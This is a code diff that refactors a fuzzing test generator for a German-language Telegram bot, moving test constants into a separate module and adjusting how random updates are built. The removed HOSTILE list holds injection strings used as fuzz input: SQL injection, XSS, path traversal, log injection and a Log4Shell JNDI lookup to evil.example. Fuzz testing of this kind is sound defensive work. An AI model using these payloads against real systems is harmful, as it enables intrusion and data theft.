@@ -1,7 +1,6 @@
 """Anything that the description of the Bot API allows, drawn by chance: updates of every type, and answers to calls."""
 
 import json
-import time
 from collections.abc import Callable, Iterator, Mapping, Sequence
 from functools import cache
 from pathlib import Path
@@ -12,6 +11,20 @@ from bot.chat.callbacks import Action, Tap
 from bot.chat.settings_choices import Choice, Option
 from bot.playground.botapi import conformance
 from tests.chat.factories import BOT, pool
+from tests.fuzzing.words import (
+    CHANNELS,
+    CHOSEN,
+    COMMANDS,
+    DRAFT,
+    GROUPS,
+    HOSTILE,
+    NOW,
+    PEOPLE,
+    STRANGE,
+    SUPERGROUPS,
+    TITLES,
+    WORDS,
+)
 
 Json = dict[str, Any]
 
@@ -20,55 +33,6 @@ TYPES: Final[Mapping[str, Json]] = DESCRIPTION["types"]
 METHODS: Final[Mapping[str, Json]] = {name.lower(): method for name, method in DESCRIPTION["methods"].items()}
 ARRAY: Final = "Array of "
 
-STRAY: Final = "\ue000"
-"""Stands for half a surrogate pair, which is no valid text: see `on_the_wire`."""
-NOW: Final = int(time.time())
-EDITOR: Final = 11
-PEOPLE: Final = (EDITOR, *range(12, 18))
-GROUPS: Final = tuple(range(-105, -100))
-SUPERGROUPS: Final = tuple(range(-1_000_000_000_206, -1_000_000_000_200))
-CHANNELS: Final = (-1_000_000_000_301, -1_000_000_000_302)
-STRANGE: Final = (0, 1, -1, 2**31, -(2**31), 2**52 - 1, -(2**52) + 1)
-"""Telegram promises no more than 52 bits."""
-TITLES: Final = ("Redaktion", "<b>Gruppe</b>", "</a><a href='https://evil.example'>", "Zeile\nZeile", "@evil", "\u202eatad")
-
-HOSTILE: Final = (
-    *("", " ", "\0", "\n\n", "\u202eNATO\u202d", "\u200b\u200d\u2060", "🇩🇪👩‍👩‍👧‍👦" * 30, "a\u0301" * 500, STRAY, f"wann {STRAY}?"),
-    *("<b>", "</b></i>", "<a href='https://evil.example'>x</a>", "&lt;&#0;&amp", "<script>alert(1)</script>", "<" * 4096),
-    *("'; DROP TABLE chats; --", "%s%n{0}{x}", "${jndi:ldap://evil.example}", "../../etc/passwd", "\r\n{\"level\":\"error\"}"),
-    *("x" * 4096, "wer " * 1024, "?" * 4096, "@BelegBot", "@evil https://evil.example", "tg://user?id=13", "𝕎𝕒𝕟𝕟"),
-    *("א" * 300, "ﷺ" * 1000, "\ufffe\uffff", "9" * 4000, "-1", "1e999", "null", "{}", "\x1b[31mrot", "\u2028\u2029\x85"),
-)
-COMMANDS: Final = tuple(
-    "start hilfe help themen topics termine schedule quelle source frage ask abo subscribe einstellungen settings status "
-    "sprache language datenschutz privacy meldung publish unbekannt".split()
-)
-DRAFT: Final = "\n".join(
-    (
-        "id: x",
-        "meeting: beckenfest",
-        "kind: agenda",
-        "text:",
-        "  de: Das Beckenfest beginnt früher.",
-        "sources: []",
-        "attribution: {de: Stadt, en: City}",
-    )
-)
-ENTITY_TYPES: Final = tuple(
-    "mention hashtag cashtag bot_command url email phone_number bold italic underline strikethrough spoiler blockquote "
-    "expandable_blockquote code pre text_link text_mention custom_emoji date_time".split()
-)
-WORDS: Final[Mapping[tuple[str, str], tuple[str, ...]]] = {
-    ("MessageEntity", "type"): ENTITY_TYPES,
-    ("Chat", "type"): ("private", "group", "supergroup", "channel"),
-    ("InlineQuery", "chat_type"): ("sender", "private", "group", "supergroup", "channel"),
-    ("Poll", "type"): ("regular", "quiz"),
-    ("Sticker", "type"): ("regular", "mask", "custom_emoji"),
-    ("User", "language_code"): ("de", "de-AT", "en", "uk", "xx", ""),
-    ("User", "username"): ("anna", "ben_b", "BelegBot"),
-    ("Document", "file_name"): ("meldung.yaml", "x.yml", "../../x.yaml", "bild.png", "\n.yaml"),
-}
-"""What only the prose of the description enumerates, and what makes the bot listen."""
 HANDLED: Final = (
     *("message", "message", "message", "callback_query", "callback_query", "callback_query"),
     *("edited_message", "my_chat_member", "channel_post", "inline_query", "guest_message"),
@@ -96,7 +60,7 @@ class Anything:
     def update(self, number: int) -> Json:
         """An update of any type."""
         kinds = [name for name in TYPES["Update"]["fields"] if name != "update_id!"]
-        kind = self._random.choice(HANDLED if self._random.random() < 0.7 else kinds)
+        kind = self._random.choice(HANDLED if self._random.random() < 0.6 else kinds)
         if kind == "guest_message":
             return {"update_id": number, kind: self._message(0, guest_query_id="1")}
         return {"update_id": number, kind: self.of(TYPES["Update"]["fields"][kind])}
@@ -107,7 +71,10 @@ class Anything:
 
     def _one(self, kind: str, depth: int, owner: str = "", name: str = "") -> Any:  # noqa: ANN401 - JSON
         if kind.startswith(ARRAY):
-            return [self._one(kind.removeprefix(ARRAY), depth, owner, name) for _ in range(self._random.choice((0, 1, 1, 2)))]
+            return [
+                self._one(kind.removeprefix(ARRAY), depth, owner, name)
+                for _ in range(self._random.choice((0, 1, 1, 2)))
+            ]
         if kind.startswith("="):
             return kind.removeprefix("=")
         match kind:
@@ -127,7 +94,7 @@ class Anything:
             return self.of("|".join(TYPES[kind]["subtypes"]), depth)
         return self._object(kind, depth)
 
-    def _object(self, kind: str, depth: int, likelihood: float = 0.3, **given: object) -> Json:
+    def _object(self, kind: str, depth: int, likelihood: float = 0.3, **given: Any) -> Json:  # noqa: ANN401 - JSON
         """One with all that it must have, some of what it may have, and what is given."""
         made = dict(given)
         for name, types in TYPES[kind]["fields"].items():
@@ -135,7 +102,7 @@ class Anything:
             if field in made or not (name.endswith("!") or self._random.random() < likelihood / (depth + 1) ** 2):
                 continue
             made[field] = self._one(self._random.choice(types.split("|")), depth + 1, kind, field)
-        return {name: value for name, value in made.items() if value is not None}
+        return made
 
     # What the bot looks at
 
@@ -154,14 +121,14 @@ class Anything:
     def _private(self, person: int) -> Json:
         return {"id": person, "type": "private", "first_name": self._random.choice(TITLES)}
 
-    def _user(self, depth: int, **given: object) -> Json:
+    def _user(self, depth: int, **given: Any) -> Json:  # noqa: ANN401 - JSON
         if "id" not in given and self._random.random() < 0.1:
             return dict(BOT)
         person = {"id": self._random.choice(PEOPLE), "is_bot": self._random.random() < 0.03}
         return self._object("User", depth, **(person | given))
 
-    def _message(self, depth: int, **given: object) -> Json:
-        chat = given.pop("chat", None) or self._chat(depth)
+    def _message(self, depth: int, chat: Json | None = None, **given: Any) -> Json:  # noqa: ANN401 - JSON
+        chat = chat or self._chat(depth)
         if chat["type"] == "private" and "from" not in given:
             given["from"] = self._user(depth, id=chat["id"], is_bot=False)
         elif "from" not in given and self._random.random() < 0.9:
@@ -195,7 +162,15 @@ class Anything:
         chat_id = self._random.choice((*PEOPLE, *GROUPS, *SUPERGROUPS, *STRANGE))
         entry = self._random.choice(list(pool().entries))
         return self._random.choice(
-            (entry, f"settings_{chat_id}", "ics_beckenfest", "inline", "Lissabon", DRAFT, "Fest fällt aus.\nQuelle: Stadt")
+            (
+                entry,
+                f"settings_{chat_id}",
+                "ics_beckenfest",
+                "inline",
+                "Lissabon",
+                DRAFT,
+                "Fest fällt aus.\nQuelle: Stadt",
+            )
         )
 
     def _entity(self, depth: int) -> Json:
@@ -212,24 +187,26 @@ class Anything:
             data = self._random.choice((self._tap(), self._tap(), self._string()))
             keyboard = {"inline_keyboard": [[{"text": "x", "callback_data": data}]]}
             message = self._message(1, reply_markup=keyboard, **{"from": dict(BOT)})
-        chat = message["chat"]
-        by = self._user(1, **({"id": chat["id"], "is_bot": False} if chat["type"] == "private" else {}))
+        chat, tapped = message["chat"], {"message": message, "data": data}
         match self._random.randrange(20):
             case 0:
-                data = self._broken(data)
+                tapped["data"] = self._broken(data)
             case 1:
-                message = self._one("InaccessibleMessage", 1)
+                tapped["message"] = self._one("InaccessibleMessage", 1)
             case 2:
-                message = None
-        return self._object("CallbackQuery", depth, message=message, data=data, **{"from": by})
+                del tapped["message"]
+        tapped["from"] = self._user(1, **({"id": chat["id"], "is_bot": False} if chat["type"] == "private" else {}))
+        return self._object("CallbackQuery", depth, 0.1, **tapped)
 
     def _tap(self) -> str:
         base = pool()
         entry, meeting = self._random.choice(list(base.entries)), self._random.choice(list(base.meetings))
         chat_id = self._random.choice((*PEOPLE, *GROUPS, *SUPERGROUPS, *STRANGE))
-        choice = Choice(option=self._random.choice(list(Option)), value=self._random.choice(VALUES), chat_id=chat_id)
-        targets = (base.short(entry), meeting, base.short(meeting), "", "alone", "1", choice.tap("de").target)
-        targets += (*base.topics, "de", "en", "0" * 48, f"as-{base.short(entry)}--99-50-", f"{base.short(entry)}-a-n")
+        choice = Choice(option=self._random.choice(list(Option)), value=self._random.choice(CHOSEN), chat_id=chat_id)
+        targets = (
+            *(base.short(entry), meeting, base.short(meeting), "", "alone", "1", choice.tap("de").target),
+            *(*base.topics, "de", "en", "0" * 48, f"as-{base.short(entry)}--99-50-", f"{base.short(entry)}-a-n"),
+        )
         return Tap(
             action=self._random.choice(list(Action)),
             language=self._random.choice(("de", "en")),
@@ -264,9 +241,6 @@ class Anything:
 
     def _question(self) -> str:
         return self._random.choice(questions())
-
-
-VALUES: Final = ("", "de", "en", "auto", "22x7", "off", "22", "7", "99", "x", "1", "0", "agenda", "brief", "open", "notices")
 
 
 @cache
